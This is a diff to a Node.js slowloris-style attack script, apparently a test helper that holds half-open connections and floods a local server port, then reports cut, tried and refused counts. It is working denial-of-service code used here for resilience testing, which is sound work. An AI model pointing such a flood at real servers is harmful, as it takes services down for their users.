@@ -1,7 +1,9 @@
 // @ts-check
 /**
  * The attack of slowloris.js: `node slowloris-attack.js PORT HALF_OPEN PER_SECOND`, from 127.0.0.2. Keeps HALF_OPEN connections on which the
- * first frame never becomes whole, anew whenever one is cut, and on top of these tries PER_SECOND connections more.
+ * first frame never becomes whole, anew whenever one is cut, and says 'ready' when so many stand. From the first byte on its stdin on, it
+ * tries PER_SECOND connections more; when that ends, it says how many of the first were cut, how many of the others it tried, and how many
+ * of these were closed again: `CUT TRIED REFUSED`.
  */
 import net from 'node:net';
 import os from 'node:os';
@@ -35,7 +37,7 @@ function hold() {
   // Three bytes of a header of six.
   const socket = connect(
     () => {
-      if (++standing === halfOpen) process.send?.('ready');
+      if (++standing === halfOpen) console.log('ready');
       socket.write(Buffer.from([64, 0, 0]));
     },
     () => {
@@ -55,15 +57,14 @@ function storm() {
 }
 
 for (let i = 0; i < halfOpen; i++) setTimeout(hold, (i % 100) * TICK_MS);
-process.once('message', () => {
+process.stdin.once('data', () => {
   const ticks = setInterval(() => {
     for (let i = 0; i < (perSecond * TICK_MS) / 1000; i++) storm();
   }, TICK_MS);
-  process.once('message', () => {
+  process.stdin.once('end', () => {
     over = true;
     clearInterval(ticks);
     for (const socket of sockets) socket.destroy();
-    process.send?.(counts);
-    process.disconnect?.();
+    console.log(`${counts.cut} ${counts.storm} ${counts.refused}`);
   });
 });
